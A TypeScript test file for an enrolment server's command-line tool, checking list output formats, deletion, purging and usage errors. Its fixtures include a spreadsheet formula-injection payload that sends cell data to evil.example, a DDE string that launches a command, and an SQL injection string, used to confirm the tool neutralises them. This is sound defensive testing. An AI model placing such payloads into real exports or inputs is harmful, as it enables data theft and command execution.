import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { usage } from '../../src/server/arguments';
import { enrolment, newKey, post, storedRows } from './support/requests';
import {
  programOf,
  projectFolder,
  runEnrolments,
  type RunningServer,
  startServer,
} from './support/start-server';

const formula = '=HYPERLINK("https://evil.example?"&A1,"Error; -1")';
/** A formula in each text that can hold one, an address included. */
const second = {
  ...enrolment,
  name: formula,
  mobile: "@SUM(1+1)*cmd|' /C calc'!A0",
  email: '=1+1@example.org',
  lang: 'English',
  per: '1',
  hours: 12,
  message: `Website enrolment: VIP;${formula}`,
};

let server: RunningServer;
let references: string[];

beforeAll(async () => {
  server = await startServer();
  references = [];
  for (const body of [enrolment, second]) {
    references.push((await post(server.url, body)).body.reference);
  }
});

afterAll(async () => {
  await server.stop();
});

describe('list, while the server runs', () => {
  test('--format json: reference, code and the eight fields of section 7', async () => {
    const { code, stdout, stderr } = await runEnrolments(
      server.databaseFile,
      'list',
      '--format',
      'json',
    );
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    const receivedAt = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(JSON.parse(stdout)).toEqual([
      { reference: references[0], receivedAt, code: null, ...enrolment },
      { reference: references[1], receivedAt, code: null, ...second },
    ]);
  });

  test('--format csv: no cell starts a formula, a phone number stays readable', async () => {
    const { code, stdout } = await runEnrolments(server.databaseFile, 'list', '--format=csv');
    expect(code).toBe(0);
    const lines = stdout.split('\r\n');
    expect(lines[0]).toBe(
      '\uFEFFreference,receivedAt,code,name,mobile,email,nation,lang,per,hours,message',
    );
    expect(lines[1]).toMatch(/,Aisyah Rahman,'\+60 12-345 6789,aisyah@example\.org,Malaysia,/);
    const quoted = `'${formula.replace('; -', ";' -").replaceAll('"', '""')}`;
    expect(lines[2]?.startsWith(`${references[1]},`)).toBe(true);
    expect(lines[2]?.split('Z,,')[1]).toBe(
      `"${quoted}",'@SUM(1+1)*cmd|' /C calc'!A0,'=1+1@example.org,Malaysia,English,1,12,` +
        `"Website enrolment: VIP;${quoted}"`,
    );
    expect(lines.slice(3)).toEqual(['']);
  });

  test.each(['nation', 'lang', 'per', 'hours'])('no formula gets into %s', async (field) => {
    const answer = await post(server.url, { ...enrolment, [field]: '=1+1' });
    expect(answer).toMatchObject({ status: 400, body: { fields: [{ field }] } });
  });

  test('--since and --language', async () => {
    const [first = '', last = ''] = storedRows(server.databaseFile).map((row) =>
      String(row.received_at),
    );
    const listed = async (...words: readonly string[]) => {
      const result = await runEnrolments(server.databaseFile, 'list', '--format=json', ...words);
      return JSON.parse(result.stdout).map(({ reference }: { reference: string }) => reference);
    };
    expect(
      await Promise.all([
        listed('--since', last),
        listed('--since', first, '--language', 'Mandarin'),
        listed('--since', '2999-01-01'),
      ]),
    ).toEqual([[references[1]], [references[0]], []]);
  });

  test('as a table by default', async () => {
    const { code, stdout, stderr } = await runEnrolments(server.databaseFile, 'list');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toMatch(/^reference +receivedAt +code +name +mobile/);
    expect(stdout).toContain('Aisyah Rahman');
    expect(stdout).toMatch(/2 enrolments\n$/);
  });

  test('a reader that stops early, like head, is no error', async () => {
    const child = spawn(process.execPath, [...programOf('enrolments'), 'list'], {
      cwd: projectFolder,
      env: { PATH: process.env.PATH, DATABASE_URL: `file:${server.databaseFile}` },
    });
    child.stdout.destroy();
    let errors = '';
    child.stderr.on('data', (text: Buffer) => (errors += text));
    const [code] = await once(child, 'close');
    expect({ code, errors }).toEqual({ code: 0, errors: '' });
  });
});

describe('delete', () => {
  test('forgets the request and its key, and leaves nothing of it in the files', async () => {
    const key = newKey();
    const body = { ...enrolment, name: 'Zephyrine Quillfeather' };
    const { reference } = (await post(server.url, body, { key })).body;
    const typed = reference.toLowerCase().replaceAll('-', ' ');

    const result = await runEnrolments(server.databaseFile, 'delete', typed);
    expect(result).toEqual({ code: 0, stdout: `Deleted ${reference}.\n`, stderr: '' });
    expect(storedRows(server.databaseFile).map((row) => row.reference)).toEqual(references);
    for (const suffix of ['', '-wal']) {
      expect(readFileSync(server.databaseFile + suffix).includes('Zephyrine')).toBe(false);
    }
    const again = await post(server.url, body, { key });
    expect(again.status).toBe(201);
    expect(again.body.reference).not.toBe(reference);
    await runEnrolments(server.databaseFile, 'delete', again.body.reference);
  });

  test.each([
    ['JLA-2222-2222', 'There is no enrolment with the reference JLA-2222-2222.\n'],
    ['JLA-2222-2223', "'JLA-2222-2223' is mistyped: no reference reads like this.\n"],
    ["x' OR 1=1", "'x' OR 1=1' is mistyped: no reference reads like this.\n"],
  ])('%s, which is unknown: a sentence and exit code 1', async (reference, sentence) => {
    const result = await runEnrolments(server.databaseFile, 'delete', reference);
    expect(result).toEqual({ code: 1, stdout: '', stderr: sentence });
  });
});

describe('purge', () => {
  test('forgets what is older, and says how many', async () => {
    const old = (await post(server.url, { ...enrolment, name: 'Zephyrine' })).body.reference;
    const database = new Database(server.databaseFile);
    database
      .prepare('UPDATE enrolments SET received_at = ? WHERE reference = ?')
      .run(new Date(Date.now() - 30 * 24 * 60 * 60 * 1000).toISOString(), old);
    database.close();

    const purge = () => runEnrolments(server.databaseFile, 'purge', '--older-than', '29');
    expect(await purge()).toEqual({
      code: 0,
      stdout: expect.stringMatching(
        /^Deleted 1 enrolment that was received before \d{4}-\d\d-\d\dT[\d:.]+Z\.\n$/,
      ),
      stderr: '',
    });
    expect(storedRows(server.databaseFile).map(({ reference }) => reference)).toEqual(references);
    expect((await purge()).stdout).toMatch(/^Deleted 0 enrolments that were received before /);
  });
});

test('--help: the usage', async () => {
  const result = await runEnrolments(server.databaseFile, '--help');
  expect(result).toEqual({ code: 0, stdout: usage, stderr: '' });
});

test('wrong usage: the usage on stderr and exit code 2', async () => {
  const result = await runEnrolments(server.databaseFile, 'list', '--format', 'xml');
  expect(result).toEqual({
    code: 2,
    stdout: '',
    stderr: `The format is one of table, csv, json, not 'xml'.\n${usage}`,
  });
});

test('no database: a sentence and exit code 1, and none is created', async () => {
  const folder = join(dirname(server.databaseFile), 'none');
  const file = join(folder, 'enrolments.db');
  const { code, stdout, stderr } = await runEnrolments(file, 'list');
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  expect(stderr).toContain(`The database ${file} can't be used: ENOENT`);
  expect(existsSync(folder)).toBe(false);
});
